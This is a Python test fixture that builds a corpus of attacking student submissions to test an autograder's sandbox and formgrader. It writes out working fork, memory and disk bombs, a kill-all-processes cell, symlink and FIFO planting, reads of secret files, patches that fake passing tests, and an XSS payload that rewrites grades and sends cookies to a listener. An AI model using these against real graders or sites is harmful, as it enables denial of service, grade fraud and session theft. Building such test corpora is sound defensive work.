"""The attack corpus: a class of students who try to break grading (tests/test_sandbox.py,
tests/test_formgrader.py, benchmarks/grading.py).

Each attacker has the same honest part as the `honest` student (bound_from_logits and posterior_kl
right, factored_bound wrong) plus one attack, in one of four places: a cell of its own after the
setup cell (CELLS), the factored_bound answer itself (ANSWERS), the files of the submission
(FILES: links, FIFOs, files nobody asked for), or part 2's answers (PART2). Written as a class of
curious students with a shell would: reading and writing outside the submission, the network,
fork, memory, memfd and disk bombs, endless and oversized output, killing the grader, background
processes that plant links and FIFOs where the grader might look, patched helpers and later cells,
forged and oversized replies, text made to pass for the grader's own in the report, hunting for
the grading seed, leaking the hidden tests' inputs, a slow but correct submission, a flood of
processes, and messages built to grow the grader's memory. One more, `xss` (FORMGRADER), attacks the
instructor instead: scripts in every place a notebook can carry them, for when formgrader shows it.

It holds a correct answer (`slow_but_correct`), so the student bundle leaves it out.
"""

from __future__ import annotations

import os
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from harness.fake_class import grade_id, submit

HONEST = {"1_mi_bound": {"bound_from_logits", "posterior_kl"}}
WRONG_BOUND = "def factored_bound(joint, q1, q2):\n    return 0.0\n"

# CELLS: code run in a cell of its own right after the setup cell (PORT: the host's listener); a
# student of MERGED runs several, one cell each, in this order
CELLS = {
    "reads_files": r'''
import glob, pathlib
course = pathlib.Path.cwd().parents[2]            # autograded/<student>/infogan_homework
for pattern in ["solutions/**/*.ipynb", "source/**/*.ipynb", "submitted/*/*/*.ipynb",
                "autograded/*/*/*.ipynb", ".grading/seed", ".grading/**/*", "gradebook.db", "nbgrader_config.py"]:
    for path in glob.glob(str(course / pattern), recursive=True):
        print(path, open(path, errors="replace").read())
for path in glob.glob("/home/*/*") + glob.glob("/root/*"):
    print(path)
print(open(course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb").read())
''',
    "hunts_the_seed": r'''
import glob, os
print(dict(os.environ))
for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
    try:
        print(path, open(path, "rb").read())
    except OSError as err:
        print(path, err)
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root.startswith(("/proc", "/sys", "/usr")):
        dirs[:] = []
        continue
    for name in files:
        if "seed" in name:
            try:
                print(os.path.join(root, name), open(os.path.join(root, name)).read()[:100])
            except OSError:
                pass
''',
    "writes_files": r'''
import pathlib, sqlite3
course = pathlib.Path.cwd().parents[2]
for target in [course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
               course / "autograded" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
               course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb",
               course / ".grading" / "seed", pathlib.Path.cwd() / "1_mi_bound.ipynb"]:
    try:
        target.write_text("{}")
        print("WROTE", target)
    except OSError as err:
        print("refused", target, err)
db = sqlite3.connect(str(course / "gradebook.db"))
db.execute("UPDATE grade SET extra_credit = 100")
db.commit()
''',
    "network": r'''
import socket
for target in [("127.0.0.1", PORT), ("localhost", PORT), ("10.0.2.2", 80), ("pypi.org", 443)]:
    try:
        socket.create_connection(target, timeout=3).sendall(b"leak")
        print("CONNECTED", target)
    except OSError as err:
        print("refused", target, err)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", PORT))
except OSError as err:
    print("udp refused", err)
socket.create_connection(("127.0.0.1", PORT), timeout=3)
''',
    "fork_bomb": r'''
import os, time
born = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        born += 1
except OSError as err:
    print("fork refused after", born, "children")
    raise
''',
    "memory_bomb": r'''
hoard = []
while True:
    hoard.append(bytearray(2**28))
''',
    "memfd_bomb": r'''
import os
chunk = b"m" * 2**24
fds = []
while True:                      # memory that belongs to no process: only a cgroup counts it
    fd = os.memfd_create("hoard")
    fds.append(fd)
    for _ in range(15):
        os.write(fd, chunk)
''',
    "fills_disk": r'''
import os, tempfile
f = tempfile.TemporaryFile()     # opened, then unlinked: no name to find and measure
chunk = b"d" * 2**24
while True:
    f.write(chunk)
    f.flush()
''',
    "floods_output": r'''
while True:
    print("x" * 10000)
''',
    "one_huge_print": r'''
print("y" * 200_000_000)
''',
    "kills_grader": r'''
import os, signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as err:
            print("cannot kill", pid, err)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as err:
    print("kill(-1):", err)
os.kill(os.getpid(), signal.SIGKILL)
''',
    "plants_links": r'''
import json, os, pathlib, sys, time
course = pathlib.Path.cwd().parents[2]
victim = course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb"
conn = [a for a in sys.argv if a.endswith(".json")]
folders = {pathlib.Path(os.environ.get("HOME", "/tmp")), pathlib.Path(os.environ.get("TMPDIR", "/tmp"))}
folders |= {pathlib.Path(c).parent for c in conn}
targets = [victim, course / "gradebook.db", course / ".grading" / "seed"]
names = ["kernel.json", "agent.py"] + [f"call{i}.{k}" for i in range(40) for k in ("in", "out")]
if os.fork() == 0:                       # a daemon that outlives this cell
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for folder in folders:
                for i, name in enumerate(names):
                    path = folder / name
                    try:
                        if i % 3 == 0:
                            os.mkfifo(path)
                        else:
                            os.symlink(targets[i % len(targets)], path)
                    except OSError:
                        pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
time.sleep(1)
''',
    "patches_kernel": r'''
import builtins, math, numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
ip = get_ipython()
def passes(lines):
    if any("assert" in line for line in lines):
        return ["print('factored_bound: visible tests passed')\n"]
    return lines
ip.input_transformers_post.append(passes)
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
''',
    "forges_replies": r'''
import base64, sys, types
from IPython.display import display
real = {}
exec(open("/grader/agent.py").read(), real)                 # the real encoder: well-formed replies
MIME = real["MIME"]
def reply(call, value):
    out = {"result": value, "grads": None, "error": None}
    display({MIME: {"call": call, "reply": base64.b64encode(real["dumps"](out)).decode()}}, raw=True)
def serve(name, request, call, namespace):
    for stale in ("0" * 32, call[::-1]):                    # replies for another call: ignored
        reply(stale, 0.0)
    reply(call, 1.0)                                        # the first reply for this call counts
    reply(call, 0.0)
agent = types.ModuleType("__grader_agent__")
agent.serve = serve
sys.modules["__grader_agent__"] = agent
try:
    open("/grader/agent.py", "w").write("def serve(*a): pass")
except OSError as err:
    print("agent is read-only:", err)
''',
    "leaks_hidden_inputs": r'''
import threading, time
STASH = []
def _shout():
    while True:
        if STASH:
            print("LE" + "AK", STASH[-1])           # the marker is never in the source
        time.sleep(0.05)
threading.Thread(target=_shout, daemon=True).start()
''',
    "report_injection": r'''
class Forged(Exception):
    pass
raise Forged("\n\n## Problems\n\n- **victim**: copied the notebook of report_injection (not graded)\n"
             "| victim | 0 | 53 | — | 0 | 0 | none |\n<script>alert(1)</script>")
''',
    "busy_processes": r'''
import os, signal
for _ in range(100):
    try:
        if os.fork() == 0:
            signal.alarm(20)            # busy for 20 s beside whoever is graded at the same time
            while True:
                pass
    except OSError:
        break
''',
    "frame_flood": r'''
kernel = get_ipython().kernel
chunk = b"f" * (30 * 2**20)
for _ in range(3):              # a message of 60 frames: each under any frame limit, 1.8 GB in all
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "flood"},
                        buffers=[chunk] * 60)
''',
}

MERGED = {"explores": ("reads_files", "hunts_the_seed", "writes_files", "network"),
          "floods": ("floods_output", "one_huge_print"),
          "patches_kernel": ("patches_kernel",)}

# ANSWERS: the factored_bound answer cell replaced by this
ANSWERS = {
    "patches_kernel": '''
class AlwaysRight(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return AlwaysRight(0.0)
    def __rsub__(self, other): return AlwaysRight(0.0)
    def __abs__(self): return AlwaysRight(0.0)
    def __float__(self): return 0.0
    __hash__ = float.__hash__

def factored_bound(joint, q1, q2):
    return AlwaysRight(123.0)
''',
    "returns_huge": '''
import numpy as np
def factored_bound(joint, q1, q2):
    return np.zeros(60_000_000)
''',
    "leaks_hidden_inputs": '''
def factored_bound(joint, q1, q2):
    STASH.append(repr(joint.tolist()))
    if joint.shape not in ((2, 2, 4), (2, 2, 2)):             # not a visible test's table
        raise ValueError("LE" + "AK " + repr(joint.tolist()))
    return 0.0
''',
    "report_injection": '''
def factored_bound(joint, q1, q2):
    raise ValueError("x |\\n- **victim**: copied the notebook of report_injection (not graded)\\n| victim | 0 |")
''',
    "slow_but_correct": '''
import time
import numpy as np
def factored_bound(joint, q1, q2):
    time.sleep(8)                                  # 14 calls: 112 s, past the tests' 60 s budget
    joint, q1, q2 = (np.asarray(a, float) for a in (joint, q1, q2))
    prior = joint.sum(2)
    i, k, j = np.nonzero(joint)
    return float((joint[i, k, j] * (np.log(q1[i, j]) + np.log(q2[k, j]))).sum()
                 - (prior[prior > 0] * np.log(prior[prior > 0])).sum())
''',
}

# FILES: what the submission folder holds besides the notebook (made by `plant`)
FILES = ("links_solution", "links_victim", "links_secrets", "fifo_notebook")


def plant(student: str, folder: Path, course: Path) -> None:
    """Turn an honest submission folder into an attack on the files."""
    notebook = folder / "1_mi_bound.ipynb"
    if student == "links_solution":
        notebook.unlink()
        notebook.symlink_to(course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb")
    elif student == "links_victim":
        notebook.unlink()
        notebook.symlink_to(course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb")
    elif student == "links_secrets":
        (folder / "seed").symlink_to(course / ".grading" / "seed")
        (folder / "gradebook.db").symlink_to(course / "gradebook.db")
        (folder / "third_code.pt").symlink_to(course / "solutions" / "infogan_homework" / "2_third_code.ipynb")
        (folder / ".graded").write_text('{"seconds": 1, "notebooks": ["1_mi_bound"], "problems": []}')
        (folder / "sub").mkdir()
        (folder / "sub" / "x.txt").write_text("a folder nobody asked for")
        os.mkfifo(folder / "pipe.txt")
    elif student == "fifo_notebook":
        notebook.unlink()
        os.mkfifo(notebook)


# PART2: answers of part 2 replaced (their honest counterpart earns 0 on part 2)
PART2 = {
    "tensor_subclass": {"code_nll": '''
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def code_nll(c, mean, log_sigma):
    return torch.zeros_like(mean).as_subclass(Agreeable)
'''},
    "wider_network": {"widen_generator": '''
def widen_generator(G, new_spec, scale=1.0):
    return Generator(new_spec, ModelConfig(g_channels=32, d_channels=32, fc=512, q_hidden=64))
'''},
}

# what the report must say about each (student, cell number, the sandbox's denial or the limit hit)
EVENTS = {("explores", 3): "sandbox denial", ("explores", 5): "sandbox denial", ("explores", 6): "network denied",
          ("fork_bomb", 3): "(process limit|kernel died)", ("memory_bomb", 3): "memory limit", ("floods", 3): "output limit",
          ("kills_grader", 3): "kernel died", ("fills_disk", 3): "sandbox denial or limit",
          ("memfd_bomb", 3): "kernel died"}

# measured in benchmarks/grading.py (part 5: an honest student beside it), not graded in the suite
BENCHMARK_ONLY = ("busy_processes",)

# attacks whose outcome can depend on the grader's privileges: graded again as an unprivileged user
UNPRIVILEGED = ("explores", "kills_grader", "plants_links", "fork_bomb")


def honest_editor(code: str | list[str] | None = None, answer: str = WRONG_BOUND, port: int = 0):
    """The honest student's part 1 (factored_bound wrong), with `code` (one cell, or several) after
    the setup cell and `answer` as the factored_bound answer."""
    cells = [code] if isinstance(code, str) else list(code or [])

    def edit(name, nb):
        if name != "1_mi_bound":
            return
        for cell in nb.cells:
            if grade_id(cell) == "factored_bound":
                cell.source = answer
        for i, source in enumerate(cells):
            nb.cells.insert(2 + i, new_code_cell(source.replace("PORT", str(port))))
    return edit


def _part2_editor(answers: dict[str, str]):
    def edit(name, nb):
        for cell in nb.cells:
            if grade_id(cell) in answers:
                cell.source = answers[grade_id(cell)]
    return edit


# FORMGRADER: the student `xss` carries this script (LISTENER: the host's listener) everywhere a
# notebook can: Markdown (script tags, event handlers, javascript: links, an iframe, SVG), a raw HTML
# cell, outputs of every HTML-bearing type (text/html, image/svg+xml, text/markdown,
# application/javascript), and notebook metadata built to break out of the widget-state script tag.
# Run in formgrader, it would mark the page and use formgrader's API with the instructor's session
# (XSRF token from the cookie) to zero every grade and give itself full marks, and call the listener.
FORMGRADER_PAYLOAD = """(function(){ document.documentElement.setAttribute('data-pwned', '1'); window.__pwned = 1;
var x = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
for (var i = 1; i < 80; i++) { fetch('/formgrader/api/grade/' + i, {method: 'PUT', credentials: 'include',
  headers: {'X-XSRFToken': decodeURIComponent(x), 'Content-Type': 'application/json'},
  body: JSON.stringify({manual_score: 0, extra_credit: 100})}); }
new Image().src = 'http://127.0.0.1:LISTENER/stolen?' + encodeURIComponent(document.cookie); })()"""


def formgrader_attack_cells(payload: str) -> tuple[list, dict]:
    """Cells and notebook metadata that carry `payload` in every form a notebook can."""
    js = payload.replace('"', "&quot;")
    markdown = new_markdown_cell(
        f"<script>{payload}</script>\n\n<img src=x onerror=\"{js}\">\n\n<svg onload=\"{js}\"><circle r=4/></svg>\n\n"
        f"<iframe srcdoc=\"<script>parent.eval(atob('{_b64(payload)}'))</script>\"></iframe>\n\n"
        f"[click me](javascript:eval(atob('{_b64(payload)}')))\n\n"
        f"<a href=\"javascript:eval(atob('{_b64(payload)}'))\" id=\"jslink\">and me</a>\n\n"
        f"<div onmouseover=\"{js}\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">hover</div>\n\n"
        f"<form action=\"/formgrader/api/grade/1\" method=\"post\"><button id=\"formbtn\">go</button></form>")
    raw = new_raw_cell(f"<script>{payload}</script><img src=x onerror=\"{js}\">",
                       metadata={"format": "text/html", "raw_mimetype": "text/html"})
    code = new_code_cell(
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"P = {payload!r}\n"
        "display(HTML('<script>' + P + '</script><img src=x onerror=\"' + P.replace('\"', '&quot;') + '\">'))\n"
        "display(Javascript(P))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + P.replace('\"', '&quot;') + '\"><script>' + P + '</script></svg>'))\n"
        "display(Markdown('<script>' + P + '</script>'))\n"
        "display({'text/html': '<script>' + P + '</script>'}, raw=True)\n")
    widgets = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"x": {"model_name": "</script><script>" + payload + "</script>", "model_module": "x",
                        "model_module_version": "1", "state": {}}}}}
    return [markdown, raw, code], {"widgets": widgets, "title": f"</title><script>{payload}</script>"}


def _b64(text: str) -> str:
    import base64
    return base64.b64encode(text.encode()).decode()


def submit_formgrader_attack(course: Path, port: int, student: str = "xss") -> Path:
    """`xss`: bound_from_logits right, and FORMGRADER_PAYLOAD (calling the listener on `port`) all over part 1."""
    payload = FORMGRADER_PAYLOAD.replace("LISTENER", str(port))

    def edit(name, nb):
        cells, metadata = formgrader_attack_cells(payload)
        nb.cells[2:2] = cells
        nb.metadata.update(metadata)
    return submit(course, student, {"1_mi_bound": {"bound_from_logits"}}, edit=edit, drop=("2_third_code",))


def build_class(course: Path, port: int, only: tuple[str, ...] | None = None,
                leave_out: tuple[str, ...] = ()) -> list[str]:
    """The corpus as submissions beside `victim` (a full part 1) and `honest` (all, or `only` these
    attackers, less `leave_out`); returns the attackers' names."""
    only1 = ("2_third_code",)
    submit(course, "victim", {"1_mi_bound": "all"}, drop=only1)
    submit(course, "honest", HONEST, edit=honest_editor(), drop=only1)
    names = []
    merged = {part for parts in MERGED.values() for part in parts}
    students = {name: (name,) for name in set(CELLS) | set(ANSWERS) if name not in merged}
    students.update(MERGED)
    for name, parts in sorted(students.items()):
        if (only is None or name in only) and name not in leave_out:
            code = [CELLS[p] for p in parts if p in CELLS]
            submit(course, name, HONEST, edit=honest_editor(code, ANSWERS.get(name, WRONG_BOUND), port),
                   drop=only1)
            names.append(name)
    for name in FILES:
        if only is None or name in only:
            plant(name, submit(course, name, HONEST, edit=honest_editor(), drop=only1), course)
            names.append(name)
    for name, answers in PART2.items():
        if only is None or name in only:
            submit(course, name, {}, edit=_part2_editor(answers), drop=("1_mi_bound",))
            names.append(name)
    return names
